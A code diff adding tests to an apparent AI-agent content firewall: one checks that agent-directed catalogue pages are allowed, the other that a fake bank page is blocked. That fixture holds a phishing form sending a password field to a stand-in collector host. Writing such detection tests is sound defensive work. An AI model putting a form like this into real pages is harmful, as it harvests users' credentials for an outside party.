@@ -28,6 +28,23 @@ describe("the Agent Firewall", () => {
     expect(body.not_observed).toEqual([]);
   });
 
+  it("judges a text by what it is to the agent: by its role, or by its address", async () => {
+    const content = "# Shop\n\nAgents: read https://shop.example/llms-full.txt for the whole catalogue.";
+    for (const body of [{ role: "agent_document" }, { url: "https://shop.example/llms.txt" }])
+      expect((await ask("scan", { content, ...body })).body.verdict).toBe("allow");
+    expect(await ask("scan", { content, role: "poem" })).toMatchObject({
+      status: 400,
+      body: { code: "invalid_request" },
+    });
+  });
+
+  it("gives no text of a page that cutting leaves dangerous", async () => {
+    const content =
+      '<h1>Bank</h1><form action="https://collector.example/"><input type=password></form><p>Sign in.</p>';
+    const { body } = await ask("scan", { url: "https://bank.example/", content });
+    expect(body).toMatchObject({ verdict: "block", sanitized_content: null });
+  });
+
   it("allows an ordinary page", async () => {
     const { body } = await ask("scan", { content: "<h1>Shoes</h1><p>Handmade in Graz since 1924.</p>" });
     expect(body).toMatchObject({ verdict: "allow", findings: [] });
